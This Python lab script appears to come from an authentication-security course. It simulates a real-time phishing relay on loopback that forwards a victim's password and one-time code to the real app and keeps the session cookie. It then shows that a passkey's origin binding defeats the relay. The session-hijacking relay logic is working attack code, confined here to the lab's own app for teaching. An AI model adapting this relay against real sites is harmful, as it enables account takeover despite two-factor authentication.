"""A real-time phishing relay: a look-alike site passes Frank's sign-in to the real app and keeps the session.

Frank gets a mail with a link to a site that looks like ours. It is the
attacker's relay, on another port of this machine: every request Frank's
browser makes there, it makes at the real app, and it hands the answers
back. Frank types his password and the code from his authenticator app;
the relay sends both on within seconds and keeps the session cookie. A
code that changes every 30 seconds doesn't help: it is used at once.
A passkey does. The browser writes the page's origin into what the
authenticator signs, so the answer made on the look-alike names the
look-alike, and the real app refuses it. What a passkey can't protect is
the sign-in Frank still types: the last lines show that run too.
"""
import hashlib
import json
import secrets
import struct
import threading
import time
import urllib.request
from base64 import urlsafe_b64decode, urlsafe_b64encode
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import cbor2
import lab
import pyotp
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

WEAK = "previous"       # step 07: password and a one-time code
MAX_REQUESTS = 24
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt (N=2^17) and a laptop may be busy

VICTIM = {"username": "frank", "email": "frank@example.com", "password": "rainy days in london town"}
GENUINE_ORIGIN = "http://localhost:3000"  # the steps' front end: WEBAUTHN_ORIGIN in development


def attack(target):
    frank = Frank(target)
    with relay_to(target) as relay:
        if frank.has_passkey:
            outcome = frank.signs_in_with_passkey_at(relay)
            informational = frank.types_password_and_code_at(relay)
            outcome.evidence.append("informational, on the same app: if Frank types his password and code "
                                    "at the look-alike instead, " + informational.evidence[-1])
        else:
            outcome = frank.types_password_and_code_at(relay)
        # The look-alike's port changes on every run, as the app's ports do: shown as the runner shows those.
        outcome.evidence = [line.replace(relay.origin, "http://localhost:<port>") for line in outcome.evidence]
        return outcome


class Frank:
    """The victim: an account with two-factor on, and a passkey where the app has them."""

    def __init__(self, target):
        target.verified_user(**VICTIM)
        self.browser = target.client("frank's browser")
        self.browser.post("/auth/login", json={"username": VICTIM["username"], "password": VICTIM["password"]})
        setup = self.browser.post("/auth/2fa/setup", json={"password": VICTIM["password"]})
        if setup.status != 200:
            raise lab.Missing(f"Frank could not turn two-factor on: {setup.status}")
        self.totp, self.last_step = pyotp.TOTP(setup.json["secret"]), None
        confirmed = self.browser.post("/auth/2fa/confirm", json={"code": self.code()})
        self.recovery_codes = confirmed.json.get("recovery_codes", []) if confirmed.json else []
        self.authenticator = Authenticator()
        self.has_passkey = self.add_passkey()
        self.browser.post("/auth/logout")

    def code(self):
        """The next code his app shows: each is accepted once, so never one used before."""
        step = self.totp.timecode(time.time())
        step = step if self.last_step is None else max(step, self.last_step + 1)
        self.last_step = step
        return self.totp.generate_otp(step)

    def add_passkey(self):
        """On the real site: True if the app has passkeys and took his."""
        options = self.browser.post("/auth/passkeys/register/options", json={
            "password": VICTIM["password"], "name": "laptop", "recovery_code": self.recovery_codes[0]})
        if options.status == 404:
            return False
        added = self.browser.post("/auth/passkeys/register/verify",
                                  json=self.authenticator.create(options.json, GENUINE_ORIGIN))
        if added.status != 201:
            raise lab.Missing(f"Frank could not add his passkey: {added.status} {added.text.strip()[:200]}")
        return True

    def types_password_and_code_at(self, relay):
        login = relay.victim_posts("/auth/login", {"username": VICTIM["username"], "password": VICTIM["password"]})
        second = relay.victim_posts("/auth/login/2fa", {"code": self.code()})
        me = relay.attacker.get("/auth/me")
        return lab.Outcome(got_through=me.status == 200, evidence=[
            f"Frank typed his password at the look-alike {relay.origin}: relayed, the app answered {login[0]} "
            + ("(a code is needed)" if login[1].get("two_factor_required") else ""),
            f"Frank typed his code: relayed, the app answered {second[0]}",
            f"the relay's own GET /auth/me: {me.status}"
            + (" (the attacker holds Frank's session)" if me.status == 200 else " (no session)")])

    def signs_in_with_passkey_at(self, relay):
        status, options = relay.victim_posts("/auth/passkeys/login/options", None)
        # Frank's browser writes the origin it is on, the look-alike's, into what his passkey signs.
        status, answer = relay.victim_posts("/auth/passkeys/login/verify",
                                            self.authenticator.get(options, relay.origin))
        me = relay.attacker.get("/auth/me")
        if me.status != 200 and status not in (400, 401):
            raise lab.Missing(f"the relayed passkey answer got {status}, not a refusal (400 or 401)")
        return lab.Outcome(got_through=me.status == 200, evidence=[
            f"Frank signed in with his passkey at the look-alike {relay.origin}; "
            f"the relay passed his authenticator's answer on",
            f"the app answered {status} {answer.get('error', '')!r}".replace(" ''", ""),
            f"the relay's own GET /auth/me: {me.status}"
            + (" (the attacker holds Frank's session)" if me.status == 200 else " (no session)")])


class Relay:
    """The look-alike's server side: forwards to the lab's own app only, keeps the cookies."""

    def __init__(self, target, origin):
        self.attacker, self.origin = target.client("the look-alike's relay"), origin

    def victim_posts(self, path, body):
        """Frank's browser posting to the look-alike: (status, JSON) as the relay hands them back."""
        request = urllib.request.Request(lab.require_loopback(self.origin + path), method="POST",
                                         data=json.dumps(body).encode() if body is not None else None,
                                         headers={"Content-Type": "application/json"} if body is not None else {})
        try:
            with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=20) as answer:
                return answer.status, json.loads(answer.read() or b"{}")
        except urllib.error.HTTPError as error:
            return error.code, json.loads(error.read() or b"{}")


@contextmanager
def relay_to(target):
    """The relay's HTTP server on a free loopback port. It knows one app, the
    target: a path is all it takes from the victim, never a host."""
    relay = None

    class Forward(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802 (http.server's name)
            length = int(self.headers.get("Content-Length") or 0)
            body = json.loads(self.rfile.read(length)) if length else None
            answer = relay.attacker.post(self.path, json=body) if self.path.startswith("/auth/") else None
            status, text = (answer.status, answer.text) if answer else (404, '{"error": "not found"}')
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *args):  # keep the lab's output to the evidence
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Forward)
    relay = Relay(target, f"http://localhost:{server.server_address[1]}")  # a look-alike origin, same machine
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield relay
    finally:
        server.shutdown()
        server.server_close()


def b64url(data):
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64url(text):
    return urlsafe_b64decode(text + "=" * (-len(text) % 4))


class Authenticator:
    """A passkey authenticator in software: what Frank's laptop does, cut down from
    SoftwareAuthenticator in steps/08-passkeys/tests/conftest.py (ES256, attestation
    "none", user verified). It signs whatever origin the browser reports."""

    FLAGS_UP_UV, FLAG_AT = 0x01 | 0x04, 0x40

    def __init__(self):
        self.key, self.credential_id, self.user_handle, self.count = None, secrets.token_bytes(16), None, 0

    def auth_data(self, rp_id, flags):
        self.count += 1
        return hashlib.sha256(rp_id.encode()).digest() + bytes([flags]) + struct.pack(">I", self.count)

    def create(self, options, origin):
        self.key, self.user_handle = ec.generate_private_key(ec.SECP256R1()), unb64url(options["user"]["id"])
        numbers = self.key.public_key().public_numbers()
        # The public key as a COSE_Key (RFC 9052): EC2, ES256, P-256, x, y.
        cose_key = cbor2.dumps({1: 2, 3: -7, -1: 1, -2: numbers.x.to_bytes(32, "big"),
                                -3: numbers.y.to_bytes(32, "big")})
        attested = bytes(16) + struct.pack(">H", len(self.credential_id)) + self.credential_id + cose_key
        auth_data = self.auth_data(options["rp"]["id"], self.FLAGS_UP_UV | self.FLAG_AT) + attested
        client_data = client_data_json("webauthn.create", options["challenge"], origin)
        return {"id": b64url(self.credential_id), "rawId": b64url(self.credential_id), "type": "public-key",
                "clientExtensionResults": {},
                "response": {"clientDataJSON": b64url(client_data),
                             "attestationObject": b64url(cbor2.dumps({"fmt": "none", "attStmt": {},
                                                                      "authData": auth_data}))}}

    def get(self, options, origin):
        auth_data = self.auth_data(options["rpId"], self.FLAGS_UP_UV)
        client_data = client_data_json("webauthn.get", options["challenge"], origin)
        signature = self.key.sign(auth_data + hashlib.sha256(client_data).digest(), ec.ECDSA(hashes.SHA256()))
        return {"id": b64url(self.credential_id), "rawId": b64url(self.credential_id), "type": "public-key",
                "clientExtensionResults": {},
                "response": {"clientDataJSON": b64url(client_data), "authenticatorData": b64url(auth_data),
                             "signature": b64url(signature), "userHandle": b64url(self.user_handle)}}


def client_data_json(kind, challenge, origin):
    return json.dumps({"type": kind, "challenge": challenge, "origin": origin, "crossOrigin": False}).encode()
